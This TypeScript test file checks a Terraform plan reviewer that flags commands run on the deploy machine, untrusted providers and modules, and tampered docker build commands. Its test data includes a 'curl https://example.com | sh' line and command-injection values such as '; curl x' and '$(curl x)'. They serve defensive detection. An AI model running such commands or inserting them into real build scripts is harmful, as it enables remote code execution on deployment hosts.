import { plain } from "../../../cli/review/text";
import {
  DockerBuildSecret,
  DockerImageCode,
  DockerImageFunction,
  DockerImageLabel,
  LambdaDeploymentGroup,
  NetworkMode,
  RegistryLogin,
} from "../../../lib";
import { functionFolder, only, synth } from "../../synth";
import { type ConfiguredJson, planJson, planOf, type ResourceJson, review } from "./review";

/** The risks, as `severity code: what`. */
function risks(plan: object): string[] {
  return review(plan).risks.map(({ severity, code, what }) => `${severity} ${code}: ${plain(what)}`);
}

/** Formats a configuration in JSON as Terraform does in a plan. */
function expressions(body: Record<string, unknown>): object {
  return Object.fromEntries(Object.entries(body).map(([name, constant_value]) => [name, { constant_value }]));
}

function plan(name: string, provisioner: [string, Record<string, unknown>], actions = ["create"]) {
  const [type, body] = provisioner;
  const made = planOf({
    type: "terraform_data",
    name,
    change: { actions, before: actions.includes("delete") ? { id: "1" } : null, after: {} },
  });
  made.configuration.root_module.resources = [
    {
      address: `terraform_data.${name}`,
      provisioners: [{ type, expressions: expressions(body) }],
    } as ConfiguredJson,
  ];
  return made;
}

describe("a command on the machine that deploys is reported", () => {
  const curl: [string, Record<string, unknown>] = [
    "local-exec",
    { command: "curl https://example.com | sh" },
  ];

  test.each<[string[], string]>([
    [["create"], "when it is created"],
    [["delete", "create"], "when it is replaced"],
    [["delete"], "when it is destroyed"],
  ])("where it runs %j", (actions, when) => {
    expect(risks(plan("x", curl, actions))).toEqual([`medium command-run: local-exec, ${when}.`]);
  });

  test("by what runs it", () => {
    expect(risks(plan("x", ["remote-exec", { inline: ["true"] }]))).toEqual([
      "medium command-run: remote-exec, when it is created.",
    ]);
  });

  test("also the one that shifts an alias with CodeDeploy", () => {
    const { json } = synth((stack) => {
      const code = DockerImageCode.fromImageAsset(functionFolder());
      const alias = new DockerImageFunction(stack, "python", { code }).addAlias("live");
      new LambdaDeploymentGroup(stack, "shift", { alias });
    });
    const [[name, { provisioner }]] = Object.entries<ReturnType<typeof only>>(
      json.resource.terraform_data,
    ) as [[string, ReturnType<typeof only>]];
    const command: [string, Record<string, unknown>] = ["local-exec", provisioner[0]["local-exec"]];
    expect(risks(plan(name, command, ["delete", "create"]))).toEqual([
      "medium command-run: local-exec, when it is replaced.",
    ]);
  });

  test("and not where it doesn't run", () => {
    expect(risks(plan("x", curl, ["no-op"]))).toEqual([]);
    expect(risks(plan("x", curl, ["update"]))).toEqual([]);
  });
});

const DOCKERFILE = `FROM public.ecr.aws/lambda/python:3.13 AS final
COPY . \${LAMBDA_TASK_ROOT}
CMD ["app.handler"]
`;

describe("the docker CLI builder's own command", () => {
  const { json } = synth(
    (stack) => {
      new DockerImageFunction(stack, "hello", {
        code: DockerImageCode.fromImageAsset(functionFolder({ Dockerfile: DOCKERFILE }), {
          buildArgs: { A: "it's ${x} and %{y}", B: "" },
          buildSecrets: { token: DockerBuildSecret.fromEnvironment("TOKEN") },
          target: "final",
          buildSsh: "default",
          buildContexts: { shared: functionFolder(), alpine: "docker-image://alpine:3.22" },
          networkMode: NetworkMode.HOST,
          labels: { source: "it's ${x}", revision: DockerImageLabel.fromEnvironment("GITHUB_SHA") },
          cacheFrom: [{ type: "gha" }, { type: "registry", params: { ref: "a/b" } }],
          cacheTo: { type: "gha", params: { mode: "max" } },
          cacheDisabled: true,
        }),
      });
    },
    { builder: "docker-cli", login: RegistryLogin.ephemeralToken() },
  );
  const written = only(json, "terraform_data").provisioner[0]["local-exec"];
  const NAME = "hello_Image_Push_C3213866";
  const NOT_OURS = "medium command-run: It is not the build and push command of the docker CLI builder.";

  test("is not reported, since it is known", () => {
    expect(risks(plan(NAME, ["local-exec", written]))).toEqual([]);
    expect(risks(plan(NAME, ["local-exec", written], ["delete", "create"]))).toEqual([]);
    expect(risks(planJson("policy-by-reference"))).not.toContain(NOT_OURS);
  });

  test("is reported on a resource of another name", () => {
    expect(risks(plan("x", ["local-exec", written]))).toEqual([
      expect.stringContaining("medium command-run"),
    ]);
  });

  test.each<[string, Record<string, unknown>]>([
    ["a line more", { command: `${written.command}\ncurl https://example.com | sh` }],
    ["another build", { command: written.command.replace("docker build", "docker build --push") }],
    [
      "another end of a quoted word",
      { command: written.command.replace("--target 'final'", "--target 'final'; curl x") },
    ],
    ["a folder of the machine", { command: written.command.replace(/shared=assets\/\w+/, "shared=/etc") }],
    [
      "a command in the value of a label",
      { command: written.command.replace("revision=$GITHUB_SHA", "revision=$(curl x)") },
    ],
    ["a value that Terraform inserts", { command: written.command.replace("'final'", "'${file(\"x\")}'") }],
    ["another shell", { interpreter: ["sh", "-c"] }],
    ["another folder", { working_dir: "/" }],
    ["another search path", { environment: { ...written.environment, PATH: "/tmp" } }],
    ["another builder", { environment: { ...written.environment, BUILDX_BUILDER: "theirs" } }],
  ])("is reported with %s", (_, change) => {
    expect(risks(plan(NAME, ["local-exec", { ...written, ...change }]))).toEqual([NOT_OURS]);
  });

  test("is reported when the plan doesn't contain its text", () => {
    expect(risks(plan(NAME, ["local-exec", {}]))).toEqual([NOT_OURS]);
  });
});

describe("other code that runs there", () => {
  const created = (more: Partial<ResourceJson>) => ({ change: { actions: ["create"], after: {} }, ...more });

  test("is a program of a data source", () => {
    const made = planOf(created({}));
    made.configuration.root_module.resources = [{ address: "data.external.x", expressions: {} }];
    expect(risks(made)).toEqual(["medium external-program: It runs at every plan and every apply."]);
    expect(risks({ ...made, resource_changes: [] })).toEqual([]);
  });

  const withProvider = (actions: string[], full_name: string, settings: object = {}) => ({
    ...planOf({ provider_name: full_name, change: { actions, before: {}, after: {} } }),
    configuration: {
      provider_config: { p: { name: "p", full_name, expressions: settings } },
      root_module: {},
    },
  });
  const AWS = "registry.terraform.io/hashicorp/aws";

  test("is a newly used provider", () => {
    const other = "registry.terraform.io/somebody/aws";
    expect(risks(withProvider(["create"], other))).toEqual([`medium provider-new: ${other}.`]);
    expect(risks(withProvider(["update"], other))).toEqual([]);
    for (const known of [AWS, "registry.opentofu.org/kreuzwerker/docker", "terraform.io/builtin/terraform"]) {
      expect(risks(withProvider(["create"], known))).toEqual([]);
    }
    // A provider of the same name in another registry is a different provider.
    expect(risks(withProvider(["create"], "example.com/hashicorp/aws"))).toHaveLength(1);
  });

  test("is a provider with settings: the names of unusual settings are shown", () => {
    const settings = (more: object) =>
      risks(withProvider(["update"], AWS, { region: { constant_value: "a" }, default_tags: [{}], ...more }));
    expect(settings({})).toEqual([]);
    const endpoint = (constant_value: string) => ({ endpoints: [{ s3: { constant_value } }] });
    expect(settings({ ...endpoint("https://secret.example.com"), assume_role: [{}] })).toEqual([
      "note provider-settings: p sets endpoints and assume_role.",
    ]);
    expect(settings({ ...endpoint("http://localhost:4566"), access_key: {} })).toEqual([]);
    expect(settings(endpoint("http://localhost:80@example.com"))).toHaveLength(1);
  });

  test("is a newly used module from elsewhere", () => {
    const withModule = (source: string, actions: string[]) => ({
      ...planOf({
        address: "module.m.aws_sqs_queue.q",
        module_address: "module.m",
        type: "aws_sqs_queue",
        change: { actions, before: {}, after: {} },
      }),
      configuration: { root_module: { module_calls: { m: { source, module: {} } } } },
    });
    expect(risks(withModule("somebody/queue/aws", ["create"]))).toEqual([
      "medium module-new: From somebody/queue/aws.",
    ]);
    expect(risks(withModule("git::https://user:hunter2@example.com/m.git", ["create"]))).toEqual([
      "medium module-new: Not from a registry.",
    ]);
    expect(risks(withModule("somebody/queue/aws", ["update"]))).toEqual([]);
    expect(risks(withModule("./assets/m/1f3a", ["create"]))).toEqual([]);
  });

  test("is an action in Terraform's sense", () => {
    const made = {
      ...planOf(),
      action_invocations: [
        {
          address: "action.aws_lambda_invoke.a",
          lifecycle_action_trigger: { triggering_resource_address: "aws_lambda_function.f" },
        },
      ],
    };
    expect(risks(made)).toEqual(["medium action-invoked: For aws_lambda_function.f."]);
  });
});
